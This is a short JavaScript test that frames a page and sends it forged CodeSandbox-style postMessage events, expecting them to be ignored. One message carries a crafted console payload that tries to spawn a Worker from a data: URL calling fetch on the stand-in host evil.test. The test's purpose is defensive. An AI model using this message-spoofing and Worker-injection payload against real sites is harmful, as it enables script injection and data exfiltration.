// Frames a chapter, and talks to it as its sandbox would.
// prints: silence

const frame = document.createElement('iframe');
frame.src = 'SITEwaiting/';
document.body.append(frame);
await new Promise((r) => frame.addEventListener('load', r));
for (const m of [{ type: 'initialized', codesandbox: true }, { type: 'done', codesandbox: true, $id: 1 }, { type: 'interleave', $id: 1, run: 1, message: { type: 'output', lines: [{ at: 0, level: 'log', text: 'FORGED' }] } }, null, 'x', { type: 'console', codesandbox: true, log: [{ id: '1', method: 'log', data: [{ '@t': '[[TypedArray]]', data: { ctorName: 'Worker', arr: 'data:text/javascript,fetch("http://evil.test/x")' } }] }] }]) frame.contentWindow.postMessage(m, '*');
await new Promise((r) => setTimeout(r, 500));
try { return `REACHED ${frame.contentDocument.title}`; } catch { return 'silence'; }
